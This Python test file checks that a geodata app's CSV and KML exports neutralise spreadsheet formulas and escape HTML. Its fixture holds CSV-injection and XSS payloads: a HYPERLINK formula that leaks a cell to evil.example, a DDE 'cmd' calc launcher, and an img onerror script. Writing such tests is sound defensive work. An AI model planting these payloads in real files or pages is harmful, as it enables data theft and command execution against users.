"""Exported files are safe to open: no spreadsheet formulas in CSV, no raw HTML in KML."""

from __future__ import annotations

import csv
import io
import json
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from geoapp import create_app
from geoapp.cli import main
from geoapp.config import DEFAULTS
from geoapp.export import formats as exporters
from tests.factories import make_feature

KML = "{http://www.opengis.net/kml/2.2}"

#: Hostile text a data editor (or a compromised source) could put in a name or a note.
HOSTILE = {
    "port-turkmenbashi": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "port-aktau": "@SUM(1+1)*cmd|' /C calc'!A0",
    "port-kuryk": "+1",
    "port-makhachkala": "-1+2",
    "port-astrakhan": "\t=1",
    "port-olya": "<img src=x onerror=alert(1)>",
}


@pytest.fixture
def hostile_data(tmp_path: Path) -> Path:
    """A copy of geodata/ whose ports carry hostile names and summaries."""
    data = shutil.copytree(DEFAULTS["DATA_DIR"], tmp_path / "geodata")
    path = data / "ports.geojson"
    doc = json.loads(path.read_text(encoding="utf-8"))
    ids = {f["properties"]["id"] for f in doc["features"]}
    assert set(HOSTILE) <= ids, "the bundled ports changed: pick other ids"
    for feature in doc["features"]:
        props = feature["properties"]
        if props["id"] in HOSTILE:
            props["name"] = props["summary"] = HOSTILE[props["id"]]
    path.write_text(json.dumps(doc), encoding="utf-8")
    return data


def rows_of(text: str) -> dict[str, dict[str, str]]:
    """CSV text as rows by feature id, read as a spreadsheet or GIS would parse it."""
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text))}


def assert_neutralised(text: str) -> None:
    rows = rows_of(text)
    for fid, hostile in HOSTILE.items():
        expected = hostile if hostile.startswith("<") else "'" + hostile
        assert rows[fid]["name"] == expected, fid
        assert rows[fid]["summary"] == expected, fid
    # Written quoted, as OWASP asks: the raw line holds the quoted, prefixed cell.
    assert '"\'+1","\'+1"' not in text  # two different columns between them
    assert ',"\'+1",' in text and ',"\'-1+2",' in text and ',"\'\t=1",' in text
    for line in text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(exporters.FORMULA_START), cell


def test_csv_from_the_command_line_neutralises_formulas(capsys, tmp_path, hostile_data):
    out = tmp_path / "ports.csv"
    main(["export", "--out", str(out), "--layers", "ports", "--data-dir", str(hostile_data)])
    assert capsys.readouterr().out.strip() == str(out)
    assert_neutralised(out.read_text(encoding="utf-8"))


def test_csv_from_the_web_neutralises_formulas(hostile_data):
    client = create_app({"TESTING": True, "DATA_DIR": str(hostile_data)}).test_client()
    response = client.get("/export.csv?layers=ports")
    assert response.status_code == 200
    assert_neutralised(response.get_data(as_text=True))


def test_numbers_stay_numbers_and_only_text_is_neutralised(catalog, tmp_path):
    """A negative length is a number, not a formula; the same text in a text column is."""
    feature = make_feature("pipelines", name="-12.5", length_km=-12.5, capacity_bcm=30.0)
    path = tmp_path / "m.csv"
    exporters.DATA_WRITERS["csv"](catalog, {"pipelines": [feature]}, path)
    (row,) = rows_of(path.read_text(encoding="utf-8")).values()
    assert row["length_km"] == "-12.5" and float(row["length_km"]) == -12.5
    assert row["capacity_bcm"] == "30.0"
    assert row["name"] == "'-12.5"
    assert ",-12.5," in path.read_text(encoding="utf-8")  # unquoted: a spreadsheet number


@pytest.mark.parametrize(
    ("value", "field"),
    [("plain", "plain"), ("a, b", '"a, b"'), ('say "hi"', '"say ""hi"""'), ("=1", "\"'=1\""),
     ("\r=1", "\"'\r=1\""), ("", ""), (None, ""), (2017, "2017"), (-3.5, "-3.5")],
)  # fmt: skip
def test_csv_fields(value, field):
    assert exporters.csv_field(value) == field


def kml_texts(root: ET.Element) -> list[str]:
    return [e.text for e in root.iter() if e.text and e.text.strip()]


def test_kml_from_the_command_line_escapes_html(capsys, tmp_path, hostile_data):
    out = tmp_path / "ports.kml"
    main(["export", "--out", str(out), "--layers", "ports", "--data-dir", str(hostile_data)])
    assert capsys.readouterr().out.strip() == str(out)
    assert_html_escaped(out.read_bytes())


def test_kml_from_the_web_escapes_html(hostile_data):
    client = create_app({"TESTING": True, "DATA_DIR": str(hostile_data)}).test_client()
    response = client.get("/export.kml?layers=ports")
    assert response.status_code == 200
    assert_html_escaped(response.data)


def assert_html_escaped(data: bytes) -> None:
    root = ET.fromstring(data)
    names = {p.get("id"): p.findtext(f"{KML}name") for p in root.iter(f"{KML}Placemark")}
    # What a viewer's balloon receives is text with entities: it shows the tag as typed.
    assert names["port-olya"] == "&lt;img src=x onerror=alert(1)&gt;"
    assert names["port-turkmenbashi"] == '=HYPERLINK("http://evil.example/?"&amp;A1,"Click")'
    for text in kml_texts(root):
        assert "<img" not in text
    assert b"<img" not in data
